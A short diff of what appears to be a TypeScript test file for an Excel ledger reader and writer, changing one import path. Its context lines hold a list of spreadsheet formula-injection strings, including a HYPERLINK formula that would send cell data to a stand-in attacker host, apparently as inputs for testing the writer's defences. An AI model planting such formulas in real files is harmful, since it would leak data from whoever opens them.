@@ -7,7 +7,7 @@ import { emptyLedgerRow } from './ledger-row.js';
 import type { LedgerRow } from './ledger-row.js';
 import { readLedgerWorkbook } from './read-ledger-workbook.js';
 import { writeLedgerWorkbook } from './write-ledger-workbook.js';
-import { findEntryData, readZipDirectory } from './zip-directory.js';
+import { findEntryData, readZipDirectory } from '../../shared/zip-directory.js';
 
 const example = readFileSync(new URL('./fixtures/example-master-ledger.xlsx', import.meta.url));
 const HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"点击")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '\r=1+1'];
